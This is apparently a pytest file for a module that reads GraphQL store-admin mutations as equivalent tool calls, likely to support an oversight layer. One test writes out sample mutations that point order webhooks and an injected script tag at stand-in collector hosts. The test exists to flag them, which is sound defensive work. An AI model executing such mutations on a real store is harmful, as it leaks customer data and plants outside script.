"""GraphQL mutations read as the tool calls they equal (`limen.normalize.graphql`)."""

from __future__ import annotations

import pytest

from limen.normalize.graphql import mutation_notes, mutations
from limen.normalize.tools import BULK_TARGET, SENDS_LATER


def test_each_top_level_field_of_a_mutation_is_a_call_with_its_arguments() -> None:
    text = (
        'mutation Paid($x: ID!) { a: orderMarkAsPaid(input: {id: "gid://shop/Order/1"}) { order { id } }'
        ' themeDelete(id: $x, force: true, tags: ["a", "b"], n: 3) @include(if: true) { deletedThemeId } }'
    )
    assert mutations(text) == [
        ("orderMarkAsPaid", {"input": {"id": "gid://shop/Order/1"}}),
        ("themeDelete", {"id": "$x", "force": True, "tags": ["a", "b"], "n": "3"}),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "{ products(first: 10) { edges { node { id } } } }",  # a query: it changes nothing
        "query Q { shop { name } }",
        "mutation { broken( }",  # does not parse: the server runs nothing
        'mutation { x(a: "unterminated) }',
        "fragment F on Shop { name } # mutation in a comment",
        "",
    ],
)
def test_queries_and_what_does_not_parse_run_no_mutation(text: str) -> None:
    assert mutations(text) == []


def test_nesting_past_the_limit_is_no_mutation() -> None:
    deep = "mutation { x(a: " + "{b: " * 40 + "1" + "}" * 40 + ") { id } }"
    assert mutations(deep) == []


def test_a_webhook_or_a_script_tag_names_where_data_goes_later() -> None:
    webhook = (
        "mutation { webhookSubscriptionCreate(topic: ORDERS_CREATE, webhookSubscription: {callbackUrl: "
        '"https://hooks.collector.example/nw"}) { webhookSubscription { id } } }'
    )
    script = 'mutation { scriptTagCreate(input: {src: "https://cdn.collector.example/t.js"}) { id } }'
    assert mutation_notes([webhook]) == (True, [SENDS_LATER + "hooks.collector.example"])
    assert mutation_notes([script]) == (True, [SENDS_LATER + "cdn.collector.example"])


def test_a_bulk_operation_that_deletes_acts_on_every_item_and_one_that_updates_does_not() -> None:
    def bulk(inner: str) -> str:
        return f'mutation {{ bulkOperationRunMutation(mutation: "{inner}", stagedUploadPath: "x") {{ id }} }}'

    ran, notes = mutation_notes([bulk("mutation call($id: ID!) { productDelete(input: {id: $id}) { id } }")])
    assert ran and any(n.startswith(BULK_TARGET) for n in notes)
    ran, notes = mutation_notes(
        [bulk("mutation call($i: ProductInput!) { productUpdate(input: $i) { id } }")]
    )
    assert ran and not notes
